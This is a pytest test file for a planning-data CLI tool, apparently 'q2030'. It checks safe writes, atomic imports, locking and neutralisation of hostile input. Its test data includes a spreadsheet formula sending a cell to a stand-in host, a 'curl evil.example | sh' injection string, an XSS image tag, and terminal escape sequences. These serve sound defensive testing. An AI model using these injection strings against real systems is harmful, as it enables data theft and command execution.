"""Hostile input and machine faults: writes stay inside the data tree and never replace what
is not a plain file, a multi-file import is all or nothing even when killed, locks lock
nobody out, spreadsheets and terminals receive data and never commands, and a fault of the
machine ends in one line (issue 10). Faults are injected from outside the code under test:
real signals, another user, and tests/inject/sitecustomize.py on PYTHONPATH."""

from __future__ import annotations

import json
import os
import random
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest

from q2030.checks import checked
from tests.conftest import DEMO_DATA, MINIMAL_PLAN, REPO, fingerprint, run

MakeData = Callable[[dict[str, str]], Path]
INJECT = REPO / "tests" / "inject"
SNU = "readings/snu.yaml"
SNU_READING = "- date: 2024-12-31\n  value: 12\n  source: report 2024\n"
NOBODY = 65534
AS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0


def q2030(
    *args: str | Path,
    env: dict[str, str] | None = None,
    user: int | None = None,
    encoding: str = "utf-8",
) -> subprocess.CompletedProcess[str]:
    """The tool in a process of its own, as a user runs it (optionally as another user)."""
    interpreter, extra = (sys.executable, {}) if user is None else other_users_python()
    return subprocess.run(
        [interpreter, "-m", "q2030", *map(str, args)],
        capture_output=True,
        encoding=encoding,
        cwd="/" if user is not None else REPO,
        env={**os.environ, **extra, **(env or {})},
        user=user,
        check=False,
        timeout=120,
    )


def other_users_python() -> tuple[str, dict[str, str]]:
    """An interpreter another user may run with this checkout's code and packages: this
    one, or the system's, given the code and the virtual environment's packages; skip
    the test, saying why, when there is none (a home folder closed to other users)."""
    import site

    packages = os.pathsep.join([str(REPO), *site.getsitepackages()])
    for interpreter, extra in (
        (sys.executable, {}),
        ("/usr/bin/python3", {"PYTHONPATH": packages}),
    ):
        try:
            probe = subprocess.run(
                [interpreter, "-c", "import q2030.cli.app"],
                capture_output=True,
                cwd="/",
                env={**os.environ, **extra},
                user=NOBODY,
                check=False,
                timeout=60,
            )
        except OSError:
            continue
        if probe.returncode == 0:
            return interpreter, extra
    pytest.skip("no interpreter that another user may run with this checkout's packages")


def one_line_error(result: subprocess.CompletedProcess[str], code: int = 1) -> str:
    assert result.returncode == code, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith("q2030: error: ")
    return lines[0]


@pytest.fixture
def data(make_data: MakeData) -> Path:
    return make_data({"objectives.yaml": MINIMAL_PLAN, SNU: SNU_READING})


# Writes stay inside the data tree.


def test_record_and_import_refuse_a_symlinked_readings_folder(
    make_data: MakeData, tmp_path: Path
) -> None:
    root = make_data({"objectives.yaml": MINIMAL_PLAN})
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "snu.yaml").write_text(SNU_READING)
    (root / "readings").symlink_to(elsewhere, target_is_directory=True)
    before = fingerprint(elsewhere)
    recorded = run("--data", root, "record", "snu", "14", "--date", "2025", "--source", "s")
    assert recorded.exit_code == 1
    assert "is a symbolic link or not a folder" in recorded.stderr
    assert "nothing written" in recorded.stderr
    sheet = tmp_path / "in.csv"
    sheet.write_text("action;date;value;source\nmediators;2025;40;s\nsnu;2025;14;s\n")
    imported = run("--data", root, "import", sheet)
    assert imported.exit_code == 1 and "symbolic link" in imported.stderr
    assert fingerprint(elsewhere) == before
    assert sorted(path.name for path in elsewhere.iterdir()) == ["snu.yaml"]


def test_a_symlinked_readings_file_is_refused(data: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.yaml"
    outside.write_text(SNU_READING)
    (data / "readings" / "mediators.yaml").symlink_to(outside)
    result = run("--data", data, "record", "mediators", "40", "--date", "2025", "--source", "s")
    assert result.exit_code == 1 and "not a plain file" in result.stderr
    assert outside.read_text() == SNU_READING


# Output paths: only a plain file is replaced.


def test_an_output_symlink_or_folder_is_refused(tmp_path: Path) -> None:
    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    link = tmp_path / "report.html"
    link.symlink_to(target)
    for command in (("report",), ("export",)):
        result = run("--data", DEMO_DATA, *command, "--out", link)
        assert result.exit_code == 1 and "is a symbolic link" in result.stderr
        folder = run("--data", DEMO_DATA, *command, "--out", tmp_path)
        assert folder.exit_code == 1 and "is a folder" in folder.stderr
    assert link.is_symlink() and target.read_text() == "keep me"


def test_a_fifo_is_written_through_never_replaced(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    result = run("--data", DEMO_DATA, "export", "--out", fifo)
    reader.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert received and received[0].startswith("\ufeffAction,".encode())  # English: ","


def test_dev_stdout_and_dash_mean_the_standard_output(tmp_path: Path) -> None:
    through_device = q2030("--data", DEMO_DATA, "report", "-f", "markdown", "--out", "/dev/stdout")
    assert through_device.returncode == 0, through_device.stderr
    assert through_device.stdout.startswith("# Quartiers 2030")
    dash = run("--data", DEMO_DATA, "report", "-f", "markdown", "--out", "-")
    assert dash.exit_code == 0 and dash.stdout.startswith("# Quartiers 2030")
    assert not (REPO / "-").exists()


@pytest.mark.skipif(not AS_ROOT, reason="replacing a device node needs root")
def test_dev_null_stays_a_device_when_run_as_root() -> None:
    result = q2030("--data", DEMO_DATA, "export", "--out", "/dev/null")
    assert result.returncode == 0, result.stderr
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


# A multi-file import is one transaction.


def many_files_plan(tmp_path: Path) -> tuple[Path, Path, dict[str, int]]:
    """The demo plan with no readings, and a sheet giving each measurable action a figure."""
    root = tmp_path / "data"
    root.mkdir()
    shutil.copy(DEMO_DATA / "objectives.yaml", root / "objectives.yaml")
    plan = checked.load(DEMO_DATA).plan
    lines = ["action;date;value;source;reference"]
    for _, action in plan.actions():
        kind, unit = action.target.kind, action.unit
        if kind == "none":
            continue
        value = {"percent": "50", "count": "10", "points": "1"}.get(unit or "", "in_progress")
        reference = "40" if kind == "outpace" else ""
        lines.append(f"{action.id};2025-06-30;{value};s;{reference}")
    sheet = tmp_path / "all.csv"
    sheet.write_text("\n".join(lines) + "\n")
    return root, sheet, {line.split(";")[0]: 1 for line in lines[1:]}


def empty_copy(template: Path, folder: Path) -> Path:
    """A data folder with the template's plan and no readings."""
    folder.mkdir()
    shutil.copy(template / "objectives.yaml", folder / "objectives.yaml")
    return folder


def start_import(
    root: Path, sheet: Path, env: dict[str, str] | None = None
) -> subprocess.Popen[str]:
    """`q2030 import` in a process of its own, to be signalled from here."""
    return subprocess.Popen(
        [sys.executable, "-m", "q2030", "--data", str(root), "import", str(sheet)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        cwd=REPO,
        env={**os.environ, **(env or {})},
    )


def all_or_none(root: Path, expected: dict[str, int]) -> str:
    """'all' or 'none' of the sheet's readings are in the (valid) data folder."""
    recovered = q2030("--data", root, "recover")
    assert recovered.returncode == 0, recovered.stderr
    validated = q2030("--data", root, "validate")
    assert validated.returncode == 0, validated.stdout + validated.stderr
    dataset = checked.load(root)
    counts = {action_id: len(dataset.readings_of(action_id)) for action_id in expected}
    assert set(counts.values()) in ({0}, {1}), counts
    assert [p.name for p in root.rglob(".*")] == []
    return "all" if set(counts.values()) == {1} else "none"


def test_an_import_killed_at_random_moments_is_all_or_nothing(tmp_path: Path) -> None:
    """Real SIGKILLs from outside, at random moments over the import's whole run."""
    rng = random.Random(2030)
    template, sheet, expected = many_files_plan(tmp_path)
    assert len(expected) >= 45
    started = time.monotonic()
    full = q2030("--data", template, "import", sheet)
    duration = time.monotonic() - started
    assert full.returncode == 0, full.stderr
    assert all_or_none(template, expected) == "all"
    outcomes = []
    for attempt in range(16):
        root = empty_copy(template, tmp_path / f"run{attempt}")
        process = start_import(root, sheet)
        time.sleep(rng.uniform(0.3, 1.0) * duration)
        process.send_signal(signal.SIGKILL)
        process.wait(timeout=30)
        outcomes.append(all_or_none(root, expected))
    assert set(outcomes) <= {"all", "none"}


@pytest.mark.parametrize("replacements", [1, 10, 30])
def test_an_import_killed_between_two_replacements_is_finished_by_the_next_command(
    tmp_path: Path, replacements: int
) -> None:
    """The pause lands where the old code left 10 of 45 files written."""
    root, sheet, expected = many_files_plan(tmp_path)
    marker = tmp_path / "paused"
    pause = f"after:replace:{replacements + 1}|{marker}"  # the first replace is the journal's
    process = start_import(root, sheet, {"PYTHONPATH": str(INJECT), "Q2030_TEST_PAUSE": pause})
    deadline = time.monotonic() + 60
    while not marker.exists():
        assert process.poll() is None, process.stderr.read() if process.stderr else ""
        assert time.monotonic() < deadline
        time.sleep(0.02)
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    shown = q2030("--data", root, "validate")
    assert shown.returncode == 1 and "interrupted-write" in shown.stdout
    # a command that only reads repairs nothing: it says what to run, and writes nothing
    before = fingerprint(root)
    status = q2030("--data", root, "status")
    assert status.returncode == 1
    assert "a write was interrupted in" in status.stderr and "q2030 recover" in status.stderr
    assert fingerprint(root) == before
    recovered = q2030("--data", root, "recover")
    assert recovered.returncode == 0, recovered.stderr
    assert "finished an interrupted write" in recovered.stdout
    assert all_or_none(root, expected) == "all"


def test_ctrl_c_during_an_import_leaves_no_traceback_and_nothing_half_written(
    tmp_path: Path,
) -> None:
    rng = random.Random(7)
    template, sheet, expected = many_files_plan(tmp_path)
    outcomes = []
    for attempt in range(8):
        root = empty_copy(template, tmp_path / f"run{attempt}")
        process = start_import(root, sheet)
        time.sleep(rng.uniform(0.2, 1.2))
        process.send_signal(signal.SIGINT)
        _, err = process.communicate(timeout=60)
        # a signal that lands while the interpreter itself starts (on a loaded machine, it
        # can take longer than the sleep) is Python's to report, before any q2030 code runs
        assert "Traceback" not in err or "q2030" not in err, err
        # done, stopped by the tool ("aborted"), or killed before Python had started
        assert process.returncode in (0, 130, -signal.SIGINT), (process.returncode, err)
        outcomes.append(all_or_none(root, expected))
    assert set(outcomes) <= {"all", "none"}


# Locks: nobody locked out, nothing left behind.


@pytest.fixture
def shared_checkout() -> Iterator[Path]:
    """A data folder two users may write: world-writable, outside pytest's private tmp."""
    top = Path(tempfile.mkdtemp(prefix="q2030-shared-"))
    try:
        root = top / "data"
        (root / "readings").mkdir(parents=True)
        (root / "objectives.yaml").write_text(MINIMAL_PLAN)
        (root / "readings" / "snu.yaml").write_text(SNU_READING)
        for path in (top, root, root / "readings"):
            path.chmod(0o777)
        for path in (root / "objectives.yaml", root / "readings" / "snu.yaml"):
            path.chmod(0o666)
        yield root
    finally:
        shutil.rmtree(top, ignore_errors=True)


@pytest.mark.skipif(not AS_ROOT, reason="running a second writer as another user needs root")
def test_two_users_write_one_checkout_in_turn_and_leave_no_lock_behind(
    shared_checkout: Path,
) -> None:
    locks_before = sorted(Path(tempfile.gettempdir()).glob("q2030-*.lock"))
    first = q2030(
        "--data", shared_checkout, "record", "snu", "13", "--date", "2025-06-30", "--source", "root"
    )
    assert first.returncode == 0, first.stderr
    second = q2030(
        "--data",
        shared_checkout,
        "record",
        "snu",
        "14",
        "--date",
        "2025-12-31",
        "--source",
        "nobody",
        user=NOBODY,
    )
    assert second.returncode == 0, second.stderr
    third = q2030(
        "--data",
        shared_checkout,
        "record",
        "mediators",
        "40",
        "--date",
        "2025",
        "--source",
        "nobody",
        user=NOBODY,
    )
    assert third.returncode == 0, third.stderr
    assert [r.value for r in checked.load(shared_checkout).readings_of("snu")] == [12, 13, 14]
    assert sorted(Path(tempfile.gettempdir()).glob("q2030-*.lock")) == locks_before
    assert [p.name for p in shared_checkout.rglob(".*")] == []


@pytest.mark.skipif(not AS_ROOT, reason="a user without write access needs root to set up")
def test_a_user_who_may_not_write_gets_one_line(shared_checkout: Path) -> None:
    for path in (shared_checkout, shared_checkout / "readings"):
        path.chmod(0o755)
    (shared_checkout / "readings" / "snu.yaml").chmod(0o644)
    before = fingerprint(shared_checkout)
    result = q2030(
        "--data",
        shared_checkout,
        "record",
        "snu",
        "14",
        "--date",
        "2025",
        "--source",
        "s",
        user=NOBODY,
    )
    assert "permission denied" in one_line_error(result)
    assert fingerprint(shared_checkout) == before


@pytest.mark.skipif(not AS_ROOT, reason="an unreadable file needs another user")
def test_an_unreadable_data_file_is_one_line(shared_checkout: Path) -> None:
    (shared_checkout / "readings" / "snu.yaml").chmod(0o600)
    result = q2030("--data", shared_checkout, "status", user=NOBODY)
    assert "1 error in the data" in result.stderr.splitlines()[-1]
    assert "Traceback" not in result.stderr
    validated = q2030("--data", shared_checkout, "validate", user=NOBODY)
    assert "cannot read the file (permission denied)" in validated.stdout


# Spreadsheets receive data, never formulas.

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "'plain apostrophe",
]


@pytest.fixture
def formula_data(make_data: MakeData) -> Path:
    readings = "".join(
        f"- date: 2025-0{index + 1}-28\n  value: {10 + index}\n  source: {json.dumps(text)}\n"
        f"  note: {json.dumps(text)}\n"
        for index, text in enumerate(FORMULAS)
    )
    return make_data({"objectives.yaml": MINIMAL_PLAN, SNU: readings})


def test_formula_cells_are_neutralised_in_csv_and_restored_on_import(
    formula_data: Path, tmp_path: Path
) -> None:
    sheet = tmp_path / "readings.csv"
    assert (
        run("--data", formula_data, "export", "--what", "readings", "--out", sheet).exit_code == 0
    )
    cells = [
        cell
        for line in sheet.read_text(encoding="utf-8-sig").splitlines()[1:]
        for cell in line.split(";")[3:5]
    ]
    assert all(cell.startswith(("'", "\"'")) for cell in cells), cells
    empty = tmp_path / "empty"
    empty.mkdir()
    shutil.copy(formula_data / "objectives.yaml", empty / "objectives.yaml")
    assert run("--data", empty, "import", sheet).exit_code == 0
    assert [r.source for r in checked.load(empty).readings_of("snu")] == FORMULAS
    assert [r.note for r in checked.load(empty).readings_of("snu")] == FORMULAS


def test_formula_text_is_a_text_cell_in_xlsx(formula_data: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "readings.xlsx"
    args = ("export", "--what", "readings", "-f", "xlsx", "--out", sheet)
    assert run("--data", formula_data, *args).exit_code == 0
    with zipfile.ZipFile(sheet) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no cell holds a formula
    page = openpyxl.load_workbook(sheet).active
    source = [cell.value for cell in page[1]].index("Source")
    sources = [row[source] for row in page.iter_rows(min_row=2, values_only=True)]
    assert sources == FORMULAS
    empty = tmp_path / "empty"
    empty.mkdir()
    shutil.copy(formula_data / "objectives.yaml", empty / "objectives.yaml")
    assert run("--data", empty, "import", sheet).exit_code == 0
    assert [r.source for r in checked.load(empty).readings_of("snu")] == FORMULAS


def test_status_csv_for_machines_neutralises_text_too(make_data: MakeData) -> None:
    plan = MINIMAL_PLAN.replace("title: SNU participants from QPV", 'title: "=1+1 SNU"')
    root = make_data({"objectives.yaml": plan})
    out = run("--data", root, "status", "-f", "csv").stdout
    assert ",'=1+1 SNU," in out


# Terminals receive data, never escape sequences.

ESCAPES = ["\x1b[2J\x1b[H", "\x9b31m", "safe\u202egnp.exe", "bell\x07"]


@pytest.mark.parametrize("text", ESCAPES)
def test_record_refuses_control_characters(data: Path, text: str) -> None:
    before = fingerprint(data)
    for option in ("--source", "--note"):
        args = ["snu", "14", "--date", "2025", "--source", "s", option, text]
        result = run("--data", data, "record", *args)
        assert result.exit_code == 2  # refused as the argument is read
        assert "contains a control character" in result.stderr
        assert "\x1b" not in result.stderr and "\x9b" not in result.stderr
    assert fingerprint(data) == before


@pytest.mark.parametrize("text", ESCAPES)
def test_import_refuses_control_characters(data: Path, tmp_path: Path, text: str) -> None:
    sheet = tmp_path / "in.csv"
    sheet.write_text(f"action;date;value;source\nsnu;2025;14;{text}\n", encoding="utf-8")
    result = run("--data", data, "import", sheet)
    assert result.exit_code == 1 and "control character" in result.stderr
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr


def test_a_readings_file_with_an_escape_is_located_and_never_printed_raw(
    make_data: MakeData,
) -> None:
    root = make_data(
        {
            "objectives.yaml": MINIMAL_PLAN,
            SNU: '- date: 2024-12-31\n  value: 12\n  source: "\\e[2Jgone"\n',
        }
    )
    result = run("--data", root, "validate")
    assert result.exit_code == 1
    assert "snu.yaml:3:11: [error] schema" in result.stdout
    assert "\x1b" not in result.stdout + result.stderr
    status = run("--data", root, "status")
    assert status.exit_code == 1 and "\x1b" not in status.stdout + status.stderr


def test_an_escape_in_a_mistyped_id_is_shown_escaped(data: Path) -> None:
    result = run("--data", data, "show", "snu\x1b[2J")
    assert result.exit_code == 2
    assert "\\x1b[2J" in result.stderr and "\x1b" not in result.stderr


def test_unknown_yaml_keys_with_escapes_are_shown_escaped(make_data: MakeData) -> None:
    root = make_data(
        {"objectives.yaml": MINIMAL_PLAN, SNU: SNU_READING + '  "\\e]0;owned\\a": 1\n'}
    )
    result = run("--data", root, "validate")
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\\x1b]0;owned\\x07" in result.stdout


# Markdown for pull requests receives data, never markup.


def test_diff_escapes_markup_from_the_data(data: Path) -> None:
    top = data.parent
    for args in (("init", "-q", "-b", "main"), ("add", "-A"), ("commit", "-qm", "base")):
        subprocess.run(
            ["git", "-c", "user.name=t", "-c", "user.email=t@e", "-C", str(top), *args], check=True
        )
    hostile = (
        "<img src=x onerror=alert(1)> [click](http://evil.example) ![i](http://evil.example/t.png)"
        " **bold** | cell"
    )
    with (data / SNU).open("a") as handle:
        handle.write(f"- date: 2025-06-30\n  value: 13\n  source: {json.dumps(hostile)}\n")
    out = run("--data", data, "diff", "main").stdout
    line = next(line for line in out.splitlines() if line.startswith("- **snu**"))
    assert "<img" not in line and "&lt;img" in line
    assert "[click](" not in line and "![i](" not in line and "\\[click\\]" in line
    assert "\\*\\*bold\\*\\*" in line and "\\| cell" in line


# init writes a shell line that cannot run anything but pip.


@pytest.mark.parametrize(
    "spec", ["q2030; curl evil.example | sh", "q2030 $(id)", "q2030`id`", "q2030\nrun: x", "'q"]
)
def test_init_refuses_an_install_that_is_not_a_requirement(tmp_path: Path, spec: str) -> None:
    folder = tmp_path / "repo"
    result = run("init", folder, "--install", spec)
    assert result.exit_code == 2 and "is not a pip requirement" in result.stderr
    assert not folder.exists()


def test_init_quotes_a_requirement(tmp_path: Path) -> None:
    folder = tmp_path / "repo"
    spec = "q2030[xlsx] @ git+https://forge.example/q2030.git@v1#egg=q2030"
    assert run("init", folder, "--install", spec).exit_code == 0
    workflow = (folder / ".github" / "workflows" / "validate-data.yml").read_text()
    assert f"run: python -m pip install '{spec}'" in workflow


# Faults of the machine: one line, an exit code, nothing lost.


def test_a_cp1252_console_degrades_symbols_without_crashing() -> None:
    result = q2030(
        "--data",
        DEMO_DATA,
        "status",
        "--as-of",
        "2026-06-30",
        encoding="cp1252",
        env={"PYTHONIOENCODING": "cp1252", "COLUMNS": "100"},
    )
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr and "needs acceleration" in result.stdout


def failing(fault: str) -> dict[str, str]:
    """The environment that makes a call of the child fail (tests/inject/sitecustomize.py)."""
    return {"PYTHONPATH": str(INJECT), "Q2030_TEST_FAIL": fault}


@pytest.mark.parametrize("fault", ["fsync:1:ENOSPC", "replace:1:ENOSPC", "fsync:2:EIO"])
def test_a_full_disk_during_record_loses_nothing(data: Path, fault: str) -> None:
    before = fingerprint(data)
    result = q2030(
        "--data", data, "record", "snu", "14", "--date", "2025", "--source", "s", env=failing(fault)
    )
    line = one_line_error(result)
    assert "no space left on the disk" in line or "input/output error" in line
    recovered = q2030("--data", data, "recover")
    assert recovered.returncode == 0, recovered.stderr
    assert fingerprint(data) == before


def test_a_full_disk_during_an_import_loses_nothing(tmp_path: Path) -> None:
    root, sheet, expected = many_files_plan(tmp_path)
    result = q2030("--data", root, "import", sheet, env=failing("fsync:20:ENOSPC"))
    assert "no space left on the disk" in one_line_error(result)
    assert all_or_none(root, expected) == "none"


def test_a_full_disk_writing_a_report_leaves_no_temporary_file(tmp_path: Path) -> None:
    out = tmp_path / "copil.html"
    result = q2030("--data", DEMO_DATA, "report", "--out", out, env=failing("fsync:1:ENOSPC"))
    assert "cannot write" in one_line_error(result)
    assert list(tmp_path.iterdir()) == []


def test_a_removed_working_folder_is_one_line(tmp_path: Path) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    script = f"cd {gone} && rmdir {gone} && {sys.executable} -m q2030 status; echo rc=$?"
    result = subprocess.run(
        ["sh", "-c", script],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        check=False,
    )
    assert "rc=1" in result.stdout, result.stderr
    assert "Traceback" not in result.stderr
    assert "the working folder cannot be read" in result.stderr


def test_a_data_folder_that_no_longer_exists_is_one_line(tmp_path: Path) -> None:
    one_line_error(q2030("--data", tmp_path / "nowhere", "status"))


def test_an_argument_that_is_not_utf8_is_one_line(data: Path) -> None:
    result = subprocess.run(
        [
            sys.executable.encode(),
            b"-m",
            b"q2030",
            b"--data",
            bytes(data),
            b"record",
            b"snu",
            b"14",
            b"--date",
            b"2025",
            b"--source",
            b"s",
            b"--note",
            b"\xff",
        ],
        capture_output=True,
        text=True,
        cwd=REPO,
        check=False,
    )
    assert "is not valid UTF-8" in one_line_error(result, 2)  # type: ignore[arg-type]
    assert (data / SNU).read_text() == SNU_READING


def test_a_csv_field_over_128_kb_is_one_line(data: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "big.csv"
    sheet.write_text("action;date;value;source\nsnu;2025;14;" + "x" * 200_000 + "\n")
    assert "not a readable CSV file" in one_line_error(q2030("--data", data, "import", sheet))


def test_a_sheet_neither_utf8_nor_cp1252_is_one_line(data: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "odd.csv"
    sheet.write_bytes(b"action;date;value;source\nsnu;2025;14;\x81\x8d\x8f\x90\x9d\n")
    line = one_line_error(q2030("--data", data, "import", sheet))
    assert "neither UTF-8 nor Windows-1252" in line


def test_init_into_an_odd_path_is_one_line(tmp_path: Path) -> None:
    a_file = tmp_path / "file"
    a_file.write_text("x")
    one_line_error(q2030("init", a_file / "repo"))
    if AS_ROOT:
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o555)
        tmp_path.chmod(0o755)
        one_line_error(q2030("init", locked / "repo", user=NOBODY))


SIGINT_IN_PYDANTIC = """
import os, signal
import pydantic.plugin._schema_validator as built

make = built.create_schema_validator
fired = []


def interrupted(*args, **kwargs):
    if not fired:  # Ctrl-C lands while the first validator is being built
        fired.append(True)
        os.kill(os.getpid(), signal.SIGINT)
    return make(*args, **kwargs)


built.create_schema_validator = interrupted
"""


def test_ctrl_c_while_the_models_are_built_aborts_and_never_reports_false_errors(
    tmp_path: Path,
) -> None:
    """Pydantic swallows an interrupt that lands while it builds a validator and leaves one
    that refuses every id: the data then read as full of errors. The models are imported
    with Ctrl-C held, so the run stops as aborted instead."""
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(SIGINT_IN_PYDANTIC, encoding="utf-8")
    result = q2030("--data", DEMO_DATA, "validate", env={"PYTHONPATH": str(hook)})
    assert result.returncode == 130, (result.stdout, result.stderr)
    assert result.stdout == ""
    assert result.stderr.splitlines()[-1] == "q2030: error: aborted"
    assert "errors in the data" not in result.stderr
